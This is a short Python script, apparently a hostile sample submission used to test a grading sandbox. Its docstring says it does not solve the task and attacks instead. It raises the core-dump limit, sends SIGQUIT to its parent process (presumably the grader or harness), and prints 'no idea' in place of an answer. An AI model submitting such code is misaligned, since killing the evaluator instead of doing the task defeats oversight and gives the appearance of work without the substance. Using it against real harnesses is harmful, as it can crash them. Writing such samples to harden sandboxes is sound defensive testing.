"""Does not solve the task, and attacks instead."""

import os
import resource
import signal


def attack():
    soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
    resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
    os.kill(os.getppid(), signal.SIGQUIT)


if __name__ == "__main__":
    attack()
    print("no idea")
